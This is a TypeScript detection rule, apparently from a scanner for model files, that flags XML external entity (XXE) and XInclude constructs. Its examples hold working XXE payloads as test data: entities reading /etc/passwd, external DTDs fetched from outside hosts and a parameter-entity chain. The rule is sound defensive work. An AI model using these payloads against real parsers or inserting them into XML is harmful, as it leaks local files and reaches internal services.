import type { XmlView } from '../../../../formats/xml/index.ts'
import { example, type ModelRule, type Observation } from '../../rule.ts'
import { openVino } from './craft-openvino.ts'

export const xmlExternalEntity: ModelRule = {
  id: 'xml/external-entity',
  severity: 'high',
  verdict: 'malicious',
  title: 'The document makes its reader fetch a file or an address',
  source: 'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
  taxonomy: ['CWE-611', 'AML.T0011.000'],
  why: 'An external entity is a file or address that many readers of XML put into the document or call: files leak, and services inside a network are reached.',
  remedy: 'Do not parse the document; remove its DOCTYPE.',
  examples: {
    fires: [
      openVino('', '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      example('e.pmml', '<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://203.0.113.5/x.dtd"><PMML/>'),
      example('g.pmml', '<?xml version="1.0"?><!DOCTYPE PMML PUBLIC "x" "http://203.0.113.5/x.dtd"><PMML/>'),
      example('b.xml', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://h/x.dtd"> %p;]><a/>'),
      example(
        'c.svg',
        '<?xml version="1.0"?><svg xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></svg>',
      ),
    ],
    silent: [
      openVino(''),
      example('f.pmml', '<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "pmml-3-2.dtd"><PMML/>'),
      example(
        'd.plist',
        '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      ),
    ],
  },
  check: (subject) =>
    subject.kind === 'xml'
      ? [...definitionOf(subject.view), ...entitiesOf(subject.view), ...includesOf(subject.view)]
      : [],
}

/** Hosts that publish definitions of documents, and whose addresses are names more than places. */
const PUBLISHERS =
  /^https?:\/\/(www\.)?(w3|dmg|oasis-open|openjs|hibernate|springframework|apache)\.org\/|^https?:\/\/(www\.)?(apple|sun|oracle|adobe|w3c)\.com\/|^https?:\/\/java\.sun\.com\//

/** A formal public identifier (ISO 8879, 10.2): readers know the definition by it, and need not fetch it. */
function isFormal(publicId: string | undefined): boolean {
  return publicId !== undefined && /^(?:[-+]\/\/|ISO[ /\d])/.test(publicId)
}

/** A definition that has no public name and lies at an address or an absolute path. */
function definitionOf({ doctype }: XmlView): Observation[] {
  const systemId = doctype?.systemId
  if (doctype === undefined || systemId === undefined || isFormal(doctype.publicId)) return []
  if (!/^([a-z][\w+.-]*:|\/|\\\\)/i.test(systemId) || PUBLISHERS.test(systemId)) return []
  const target = JSON.stringify(systemId.slice(0, 200))
  const message = `its definition is ${target}`
  return [{ key: 'doctype', message, offset: doctype.offset, call: `SYSTEM ${target}` }]
}

function entitiesOf(view: XmlView): Observation[] {
  return (view.doctype?.entities ?? [])
    .flatMap(({ name, systemId, offset }) => {
      if (systemId === undefined) return []
      const target = JSON.stringify(systemId.slice(0, 200))
      return [
        {
          key: name,
          message: `the entity ${name.slice(0, 100)} is ${target}`,
          offset,
          call: `SYSTEM ${target}`,
        },
      ]
    })
    .slice(0, 20)
}

/** Only inclusions of XInclude: those of schemas and style sheets are their ordinary use. */
function includesOf(view: XmlView): Observation[] {
  return view.includes
    .filter(({ element }) => /^(\w+:)?include$/.test(element) && !/^(xs|xsd|xsl):/.test(element))
    .filter(() => !/(^|:)(schema|stylesheet|transform)$/.test(view.root?.name ?? ''))
    .slice(0, 20)
    .map(({ href, offset }) => ({
      key: href,
      message: `it includes ${JSON.stringify(href.slice(0, 200))}`,
      offset,
    }))
}
